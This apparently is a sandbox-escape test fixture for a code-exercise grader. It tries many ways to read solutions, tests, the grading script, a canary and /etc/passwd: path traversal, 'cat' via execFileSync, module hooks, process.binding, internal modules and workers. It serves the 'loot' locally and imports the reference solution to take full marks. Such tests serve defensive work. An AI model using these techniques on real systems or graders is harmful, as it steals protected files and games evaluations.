import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { createRequire, register } from 'node:module';
import { Worker } from 'node:worker_threads';

const targets = [
  '{{PROJECT}}/solutions/03-request-anatomy/server.ts',
  '{{PROJECT}}/tests/03-request-anatomy.test.ts',
  '{{PROJECT}}/scripts/grade.ts',
  '{{CANARY}}',
  '{{OTHER}}',
  '/etc/passwd',
];
const loot: string[] = [];
const attempt = (how: string, run: () => unknown): void => {
  try {
    const found = String(run() ?? '');
    if (found !== '') loot.push(`LOOT: ${how}: ${found.slice(0, 300)}`);
  } catch {
    // Refused.
  }
};
for (const path of targets) {
  attempt(path, () => readFileSync(path, 'utf8'));
  attempt(`${path} by URL`, () => readFileSync(new URL(`file://${path}`), 'utf8'));
  attempt(`${path} roundabout`, () => readFileSync(`${process.cwd()}/../../../../../../../../..${path}`, 'utf8'));
  attempt(`${path} by cat`, () => execFileSync('cat', [path], { encoding: 'utf8' }));
}
// What Node was given of TypeScript is kept as JavaScript: the solutions and the tests may be among it.
const cache = '{{PROJECT}}/.workbook/strip';
for (const dir of ['{{PROJECT}}/solutions', '{{PROJECT}}/tests', '{{SUBMISSIONS}}', cache]) attempt(dir, () => readdirSync(dir).join());
attempt('the cache of the loader', () => readdirSync(cache).map((file) => readFileSync(`${cache}/${file}`, 'utf8')).find((text) => text.includes('//#region')));
attempt('a module hook', () => {
  const hook = `import { readFileSync } from 'node:fs'; import { Worker } from 'node:worker_threads'; new Worker("require('node:fs').writeFileSync('{{CANARY}}.written', 'LOOT')", { eval: true, execArgv: [] });`;
  register(`data:text/javascript,${encodeURIComponent(hook)}`);
  return '';
});
attempt('a write', () => (writeFileSync('{{CANARY}}.written', 'LOOT'), ''));
// The bindings below the modules, where a check may have been forgotten.
attempt('binding', () => (process as unknown as { binding: (name: string) => { internalModuleReadJSON?: (path: string) => string } }).binding('fs').internalModuleReadJSON?.('{{PROJECT}}/tests/attacks/09-read-solutions/attack.json') ?? '');
// What the loader was put in by, were it left open.
const inside = 'internal/test/binding';
attempt('the inside of Node', () => createRequire(import.meta.url)(inside));
attempt('the inside of Node by process', () => (process as { getBuiltinModule?: (name: string) => unknown }).getBuiltinModule?.(inside) ?? '');
await import(inside).then(
  () => loot.push('LOOT: the inside of Node was imported'),
  () => {},
);
attempt('a worker', () => {
  const code = "const { parentPort } = require('node:worker_threads'); try { parentPort.postMessage(require('node:fs').readFileSync(" + JSON.stringify(targets[0]) + ", 'utf8')); } catch {}";
  new Worker(code, { eval: true, execArgv: [] }).on('message', (text) => loot.push(`LOOT: a worker: ${String(text).slice(0, 300)}`)).on('error', () => {});
  return '';
});

createServer((_req, res) => {
  res.setHeader('Content-Type', 'application/json');
  res.end(JSON.stringify({ attack: 'ran', loot }));
}).listen(Number(process.env.PORT), '127.0.0.1');

// Last, the reference itself: it would listen in this program's place, were it not for the port, and get every point.
import('{{PROJECT}}/solutions/03-request-anatomy/server.ts').then(
  () => loot.push('LOOT: the reference was imported'),
  () => {},
);
